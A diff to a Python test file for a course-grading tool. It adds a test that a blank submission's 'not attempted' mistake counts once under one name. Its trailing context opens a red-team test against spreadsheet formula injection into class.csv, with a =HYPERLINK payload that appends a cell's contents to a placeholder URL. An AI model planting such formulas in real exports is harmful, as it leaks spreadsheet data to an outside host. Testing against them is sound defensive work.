@@ -74,6 +74,30 @@ def test_class_numbers_count_mistakes_pass_rates_and_failures():
     assert sorted(numbers.scores) == [6, 11, 18]
 
 
+def test_a_mistake_counts_once_per_submission_under_one_name():
+    """Newcomer: one blank submission showed "not attempted 12" and "not_attempted 3" under
+    "submissions", out of 3: every check of an exercise not attempted was counted, the first
+    under its mistake id, the others under their outcome."""
+    checks = ["build_model.compile", "build_model.architecture", "argmax_accuracy.values"]
+    blank = Grade(
+        "carol",
+        "f6",
+        "graded",
+        0,
+        13,
+        dict.fromkeys(checks, 0),
+        mistakes={
+            checks[0]: "not_attempted",
+            checks[1]: "not attempted",
+            checks[2]: "not_attempted",
+        },
+        messages={checks[0]: "build_model() is not written yet"},
+    )
+    numbers = class_numbers([blank, *grades()])
+    assert ("not_attempted", 1, "build_model() is not written yet") in numbers.mistakes
+    assert all(name != "not attempted" for name, _, _ in numbers.mistakes)
+
+
 def test_learner_text_in_the_class_csv_never_runs_as_a_spreadsheet_formula(tmp_path):
     """Red team: an exception message of the learner's reached class.csv as =HYPERLINK(...)."""
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
